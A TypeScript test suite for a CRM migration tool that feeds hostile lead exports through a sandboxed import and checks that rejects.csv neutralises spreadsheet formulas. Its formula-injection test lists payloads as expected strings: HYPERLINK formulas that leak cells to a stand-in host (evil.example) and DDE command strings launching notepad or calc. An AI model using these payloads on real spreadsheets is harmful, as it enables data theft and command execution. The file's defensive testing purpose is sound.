/**
 * The hostile leads exports that read through a migration: a dry-run, then a real import into a sandbox of their own
 * (no rate limit), then the report. Every source row must end created, updated, unchanged, skipped or failed, the
 * skipped and failed ones each in rejects.csv with its reason and every one of its cells; what Twenty holds must be
 * what the journal says was written; and no cell of rejects.csv may reach a spreadsheet as a formula.
 */
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { inspectExports, type Inspection } from '../../src/kartra/inspect.js';
import { openExport, readRows, type ExportRow } from '../../src/kartra/read.js';
import { buildMapping } from '../../src/mapping/build.js';
import { runImport, type Counts, type ImportResult } from '../../src/migration/engine.js';
import { sourceRowsOf } from '../../src/migration/reconcile.js';
import { neutralizeFormula, REJECTS_FIXED_COLUMNS } from '../../src/migration/rejects.js';
import { writeReport, type Report } from '../../src/migration/report.js';
import { applySchemaChanges, planSchemaChanges } from '../../src/migration/schema-changes.js';
import { startSandbox, type SandboxHandle, type StoredRecord } from '../../src/sandbox/index.js';
import { createTwentyClient } from '../../src/twenty/index.js';
import { EXPECTED, materialise, withinTime } from './corpus.js';

const MIGRATION_ID = 'm-00000000beef';
/** A cell a spreadsheet runs as a formula (src/migration/rejects.ts): its first character after white space. */
const FORMULA_START = /^\s*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const OBJECTS = ['people', 'companies', 'opportunities', 'notes', 'noteTargets'];

/** Every leads export of the corpus that reads, but the 5,000-column one (its 700 custom fields add nothing here). */
const FILES = Object.entries(EXPECTED)
  .filter(([name, e]) => e.outcome === 'read' && e.kind === 'leads' && name !== 'header-5000-columns.csv')
  .map(([name]) => name);

const corpus = materialise('hostile-migration-');
let root: string;
beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'hostile-migration-runs-'));
});
afterAll(async () => {
  corpus.cleanup();
  await rm(root, { recursive: true, force: true });
});

type Run = {
  inspection: Inspection;
  source: ExportRow[];
  header: string[];
  dry: ImportResult;
  dryWrites: number;
  dryRecords: number;
  full: ImportResult;
  report: Report;
  rejects: Record<string, string>[];
  rejectsRaw: string[][];
  people: StoredRecord[];
  notes: StoredRecord[];
};

const live = (sandbox: SandboxHandle, plural: string): StoredRecord[] => sandbox.records(plural).filter((r) => r.deletedAt === null || r.deletedAt === undefined);
const total = (c: Counts): number => c.created + c.updated + c.unchanged + c.skipped + c.failed;

async function migrate(name: string): Promise<Run> {
  const path = join(corpus.dir, name);
  const sandbox = await startSandbox({ rateLimit: false });
  const client = createTwentyClient({ baseUrl: sandbox.url, apiKey: sandbox.apiKey, rateLimit: { buckets: [{ limit: 100_000, windowMs: 1000 }], safetyMargin: 0 } });
  try {
    const inspection = await inspectExports([path]);
    const head = await openExport(path);
    const source: ExportRow[] = [];
    for await (const row of readRows(head)) source.push(row);
    const mapping = buildMapping({ migrationId: MIGRATION_ID, inspection, schema: await client.schema({ refresh: true }), mode: 'rehearsal' });
    await applySchemaChanges(client, planSchemaChanges(mapping, await client.schema({ refresh: true })));
    const dir = await mkdtemp(join(root, 'run-'));
    sandbox.resetStats();
    const dry = await runImport({ dir, inspection, mapping, client, policy: 'fill-empty', stage: 'dry-run' });
    const dryWrites = Object.entries(sandbox.stats().calls).filter(([route]) => !route.startsWith('GET ')).reduce((n, [, c]) => n + c, 0);
    const dryRecords = OBJECTS.reduce((n, plural) => n + sandbox.records(plural).length, 0);
    const full = await runImport({ dir, inspection, mapping, client, policy: 'fill-empty', stage: 'full' });
    const report = await writeReport({ dir, migrationId: MIGRATION_ID, client, target: 'the hostile test sandbox', sourceRows: sourceRowsOf(mapping) });
    const text = await readFile(join(dir, 'rejects.csv'), 'utf8');
    const rejectsRaw = parse(text, { bom: true }) as string[][];
    const rejects = parse(text, { bom: true, columns: true }) as Record<string, string>[];
    return { inspection, source, header: head.header, dry, dryWrites, dryRecords, full, report, rejects, rejectsRaw, people: live(sandbox, 'people'), notes: live(sandbox, 'notes') };
  } finally {
    await client.close();
    await sandbox.close();
  }
}

const runs = new Map<string, Promise<Run>>();
const runOf = (name: string): Promise<Run> => {
  if (!runs.has(name)) runs.set(name, withinTime(migrate(name), 20_000, `migrating ${name}`));
  return runs.get(name)!;
};

describe.each(FILES)('%s through a migration', (name) => {
  it('dry-run: writes nothing, and gives every source row an outcome', async () => {
    const run = await runOf(name);
    expect(run.dryWrites, 'requests that write').toBe(0);
    expect(run.dryRecords, 'records in the sandbox').toBe(0);
    expect(total(run.dry.counts.people)).toBe(run.inspection.files[0]!.rows);
  });

  it('import: every row created, updated, unchanged, skipped or failed; Twenty holds what was written; the report balances', async () => {
    const run = await runOf(name);
    const file = run.inspection.files[0]!;
    const people = run.full.counts.people;
    expect(total(people), 'rows with an outcome').toBe(file.rows);
    expect(people.failed, 'no row failed').toBe(0);
    // the reader's rejected rows and duplicates are skipped, never written
    expect(people.skipped).toBeGreaterThanOrEqual(file.rejectedRows + run.inspection.datasets[0]!.duplicates.length);
    expect(run.people).toHaveLength(people.created + people.updated + people.unchanged);
    for (const r of run.report.reconciliation) {
      expect({ phase: r.phase, balanced: r.balanced, missing: r.missing, duplicated: r.duplicated }).toEqual({ phase: r.phase, balanced: true, missing: [], duplicated: [] });
    }
    expect(run.report.reconciliation.find((r) => r.phase === 'people')?.sourceRows).toBe(file.rows);
    // keys are the export's ids, trimmed: no stray BOM or zero-width character rides along into Twenty
    const ids = new Set(run.source.map((r) => r.cells[run.header.indexOf('id')]?.trim()));
    for (const p of run.people) {
      expect(ids.has(String(p.kartraLeadId)), String(p.kartraLeadId)).toBe(true);
      expect(String(p.kartraLeadId)).not.toMatch(/[\uFEFF\u200B-\u200D\u2060\s]/);
    }
  });

  it('rejects.csv: each skipped or failed row once, with its reason and all its cells; no cell a spreadsheet would run', async () => {
    const run = await runOf(name);
    const people = run.full.counts.people;
    const leadRejects = run.rejects.filter((r) => r.dataset === 'leads');
    expect(leadRejects).toHaveLength(people.skipped + people.failed);
    expect(new Set(leadRejects.map((r) => r.line)).size, 'each row once').toBe(leadRejects.length);
    for (const r of run.rejects) {
      expect(r.reason, `${r.file}:${r.line} has a reason`).not.toBe('');
      expect(['skipped', 'failed']).toContain(r.outcome);
    }
    // not one cell, header or value, starts like a formula: the writer put an apostrophe before each
    for (const row of run.rejectsRaw) for (const cell of row) expect(cell, JSON.stringify(cell)).not.toMatch(FORMULA_START);
    // and each rejected row's cells are the export's, neutralised, nothing else changed or lost
    for (const r of leadRejects) {
      const row = run.source.find((s) => s.line === Number(r.line));
      expect(row, `line ${r.line} is a source row`).toBeDefined();
      for (const [i, header] of run.header.entries()) {
        expect(r[neutralizeFormula(header)], `line ${r.line}, ${header}`).toBe(neutralizeFormula(row!.cells[i]!));
      }
      const written = Object.entries(r).filter(([column]) => !REJECTS_FIXED_COLUMNS.includes(column)).map(([, v]) => v);
      for (const extra of row!.extra) {
        expect(written, `line ${r.line}: the cell "${extra}" beyond the header is in rejects.csv`).toContain(neutralizeFormula(extra));
      }
    }
  });
});

describe('formula injection: what rejects.csv holds for inject-formula-cells.csv', () => {
  it('every injected cell of the rejected rows is shown as text (a leading apostrophe), each original recoverable', async () => {
    const run = await runOf('inject-formula-cells.csv');
    const byLine = new Map(run.rejects.filter((r) => r.dataset === 'leads').map((r) => [Number(r.line), r]));
    expect([...byLine.keys()].sort((a, b) => a - b)).toEqual([5, 6, 9, 10, 11]);
    expect(byLine.get(5)!.first_name).toBe(`'=HYPERLINK("http://evil.example/?leak="&B4;"x")`);
    expect(byLine.get(6)!.first_name).toBe(`'\t=cmd|' /C notepad'!A1`);
    expect(byLine.get(6)!.last_name).toBe(`'\r=1+2`);
    expect(byLine.get(6)!.tags).toBe(`'@evil`);
    expect(byLine.get(6)!.notes).toBe(`'\r+2+3`);
    expect(byLine.get(9)!).toMatchObject({ first_name: `'-2+3+cmd|' /C calc'!A0`, last_name: `'@SUM(A1:A9)`, email: `'=1+1`, company: `'=HYPERLINK("http://evil.example")`, tags: `'+VIP`, notes: `'=2*3` });
    expect(byLine.get(10)!).toMatchObject({ first_name: `'＝1+1`, last_name: `'＋cmd`, company: `'＠SUM(A1)`, tags: `'－1+1` });
    expect(byLine.get(11)!).toMatchObject({ first_name: `'  =1+1`, last_name: `' @SUM(A1)`, company: `'\t@x`, tags: `'\t-1+1`, notes: `'\r\n=1+1` });
    // the reasons quote the bad email, neutralised too where it starts like a formula
    expect(byLine.get(9)!.reason).toMatch(/^invalid_email: "=1\+1" is not an email address$/);
  });

  it('the leads that were imported keep their text as written: Twenty is not a spreadsheet', async () => {
    const run = await runOf('inject-formula-cells.csv');
    const ann = run.people.find((p) => p.kartraLeadId === '1');
    expect((ann?.name as { firstName?: string } | undefined)?.firstName).toBe('=HYPERLINK("http://evil.example/?leak="&A1;"Click me")');
  });
});

describe('prompt injection: the injected export imports exactly as its control does', () => {
  it('the same people, with the same emails and the same fields filled, and one note each', async () => {
    const [injected, control] = await Promise.all([runOf('inject-prompt-leads.csv'), runOf('inject-prompt-control.csv')]);
    const shape = (run: Run) =>
      run.people
        .map((p) => ({ id: p.kartraLeadId, email: (p.emails as { primaryEmail?: string }).primaryEmail, fields: Object.keys(p).filter((k) => p[k] !== null && p[k] !== '').sort().join(',') }))
        .sort((a, b) => String(a.id).localeCompare(String(b.id)));
    expect(shape(injected)).toEqual(shape(control));
    expect(injected.people).toHaveLength(12);
    expect(injected.notes).toHaveLength(control.notes.length);
    expect(injected.full.counts).toEqual(control.full.counts);
  });
});
